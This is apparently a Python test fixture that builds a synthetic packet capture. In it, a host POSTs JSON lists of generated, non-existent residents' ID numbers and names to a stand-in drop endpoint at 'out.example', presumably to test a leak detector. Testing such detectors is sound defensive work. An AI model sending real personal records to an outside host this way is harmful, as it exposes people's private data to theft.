# A capture in which residents who do not exist leave by a request, as text and as bytes.
from __future__ import annotations

import json
from pathlib import Path

import numpy as np
from made_packets import Frame, pcap, talk

from operations.generated_people import people

OK = b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok"


def leaking(path: Path, count: int = 300, *, at: float = 0, source: str = "10.0.0.7") -> Path:
    """One POST with so many residents' numbers and names, to a host abroad."""
    return pcap(path, leaking_frames(count, at=at, source=source))


def leaking_frames(count: int = 300, *, at: float = 0, source: str = "10.0.0.7") -> list[Frame]:
    """The frames of it."""
    made = people(count, np.random.default_rng(3))
    rows = [
        {"id_card": number, "name": name}
        for number, name in zip(made.numbers, made.names, strict=True)
    ]
    body = json.dumps(rows, ensure_ascii=False).encode()
    head = (
        "POST /drop?token=abc HTTP/1.1\r\nHost: out.example\r\nContent-Type: application/json\r\n"
        f"Content-Length: {len(body)}\r\n\r\n"
    )
    said = [("forth", head.encode() + body), ("back", OK)]
    return talk(f"{source}:40000", "203.0.113.9:80", said, at=at)
